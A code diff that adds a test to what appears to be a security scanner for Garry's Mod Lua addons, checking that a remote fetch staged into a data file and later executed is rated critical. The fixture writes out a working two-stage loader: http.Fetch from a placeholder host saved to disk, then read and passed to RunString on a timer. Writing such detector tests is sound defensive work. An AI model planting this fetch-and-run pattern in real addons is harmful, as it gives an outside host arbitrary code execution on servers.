@@ -94,4 +94,18 @@ describe('datafile_execution', () => {
     });
     expect(worst(findings)).toBeLessThan(RANK.critical);
   });
+  it('a web reply stored in the very file another file runs: remote code in two steps', () => {
+    const files = (loaded: string) => ({
+      'lua/autorun/server/sv_fetch.lua':
+        'http.Fetch("https://updates.invalid/mod.txt", function(b) file.Write("mod_cache.txt", b) end)',
+      'lua/autorun/server/sv_load.lua': `timer.Simple(20, function() local c = file.Read("${loaded}", "DATA") if c then RunString(c) end end)`,
+    });
+    const staged = check(rule, files('mod_cache.txt'));
+    expect(worst(staged)).toBe(RANK.critical);
+    const write = staged.find((f) => f.file === 'lua/autorun/server/sv_fetch.lua')!;
+    expect(write.techniques).toEqual(['GB-001', 'GB-009']);
+    // The loader runs another file: the cached reply is not what runs (high, as before).
+    const apart = check(rule, files('plugins.txt'));
+    expect(worst(apart)).toBe(RANK.high);
+  });
 });
